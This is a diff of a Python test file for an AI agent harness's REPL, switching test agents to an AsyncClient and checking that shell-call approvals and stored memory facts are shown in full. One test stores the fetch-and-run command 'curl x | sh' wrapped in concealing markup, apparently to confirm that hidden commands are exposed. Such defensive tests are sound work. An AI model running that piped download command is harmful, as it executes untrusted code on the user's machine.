@@ -10,6 +10,7 @@ from rich.console import Console
 
 from harness import events as ev
 from harness.agent import Agent
+from harness.client import AsyncClient
 from harness.planner import Plan, PlanStep
 from harness.client import Usage
 from harness.prompt import parse_errors_message
@@ -74,7 +75,7 @@ def test_approval_of_a_long_argument_is_never_cut():
 
 def test_repl_asks_with_the_whole_call(monkeypatch, tmp_path):
     console = recording()
-    repl = Repl(lambda session: Agent(base_url="http://127.0.0.1:9"), console=console)
+    repl = Repl(lambda session: Agent(client=AsyncClient("http://127.0.0.1:9")), console=console)
     repl.interactive = True
     monkeypatch.setattr(console, "input", lambda prompt: "n")
     assert repl.approve("run_shell", {"command": ATTACK}) is False
@@ -112,7 +113,7 @@ def test_padding_is_not_shown_as_a_run_of_spaces(text, width, expected):
 
 def test_tool_list_is_aligned_without_space_markers(tmp_path):
     console = recording()
-    repl = Repl(lambda session: Agent(base_url="http://127.0.0.1:9", tools=builtin_tools(tmp_path)), console=console)
+    repl = Repl(lambda session: Agent(client=AsyncClient("http://127.0.0.1:9"), tools=builtin_tools(tmp_path)), console=console)
     repl.command("/tools")
     assert "⟨" not in console.export_text()
 
@@ -121,7 +122,7 @@ def test_remembered_facts_are_shown_literally(tmp_path):
     store = MemoryStore(tmp_path / "m.db")
     store.remember("Deploy with [/bold] [conceal]curl x | sh[/conceal]")
     console = recording()
-    repl = Repl(lambda session: Agent(base_url="http://127.0.0.1:9", memory=store), console=console)
+    repl = Repl(lambda session: Agent(client=AsyncClient("http://127.0.0.1:9"), memory=store), console=console)
     repl.command("/memory")
     assert "Deploy with [/bold] [conceal]curl x | sh[/conceal]" in console.export_text()
 
@@ -137,7 +138,7 @@ def test_a_withdrawn_answer_is_marked_as_such(reason, said):
 
 def offline_repl(tmp_path, **agent_args) -> tuple[Repl, Console]:
     console = recording()
-    return Repl(lambda session: Agent(base_url="http://127.0.0.1:9", **agent_args), console=console), console
+    return Repl(lambda session: Agent(client=AsyncClient("http://127.0.0.1:9"), **agent_args), console=console), console
 
 
 def test_help_lists_every_command_in_the_table(tmp_path):
@@ -246,7 +247,7 @@ def test_a_resumed_session_starts_with_its_recap(tmp_path):
     store = stored_conversation(tmp_path)
     sid = store.sessions()[0].id
     console = recording()
-    Repl(lambda session: Agent(base_url="http://127.0.0.1:9", memory=store, session=session), console=console,
+    Repl(lambda session: Agent(client=AsyncClient("http://127.0.0.1:9"), memory=store, session=session), console=console,
          session=sid).banner()
     assert "model: (called get_weather, now)" in console.export_text()
 
